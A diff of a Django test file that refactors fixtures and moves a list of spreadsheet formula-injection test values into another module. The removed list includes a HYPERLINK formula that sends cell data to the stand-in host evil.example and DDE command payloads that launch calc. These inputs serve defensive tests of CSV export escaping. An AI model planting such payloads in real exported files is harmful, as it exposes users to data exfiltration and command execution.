@@ -10,7 +10,6 @@ from uuid import uuid4
 
 import orjson
 import pytest
-from django.contrib.auth.models import Group
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
@@ -25,6 +24,7 @@ from conversations.people.identity import Names
 from conversations.record import CallRequest, Outcome, rebuild
 from conversations.search import index
 from conversations.tests.calls import answer, ask, assistant, person, turn, user
+from conversations.tests.cells import FORMULAS
 from conversations.tests.unguarded import unguarded
 
 CONVERSATIONS, CALLS = (
@@ -46,17 +46,7 @@ CLASSIC = [
 
 
 @pytest.fixture
-def desk(db) -> Client:
-    rita = User.objects.create_user("rita", is_staff=True)
-    rita.groups.add(Group.objects.get(name="Reviewer"))
-    client = Client()
-    client.force_login(rita)
-    return client
-
-
-@pytest.fixture
-def alice(db) -> User:
-    alice = person("alice")
+def alice(alice) -> User:
     alice.job_title = "Analyst"
     alice.save()
     return alice
@@ -73,26 +63,6 @@ def download(client: Client, path: str = CALLS, **query: str) -> list[dict[str, 
 
 
 # Cells ----------------------------------------------------------------------------------------
-
-FORMULAS = [
-    "=1+1",
-    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\uff1d1+1",
-    "\uff0b1",
-    "\uff0d1",
-    "\uff20SUM(1)",
-    '="',
-    "=",
-    '=1+1","=2+2',
-    "=1\r\n=2",
-]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
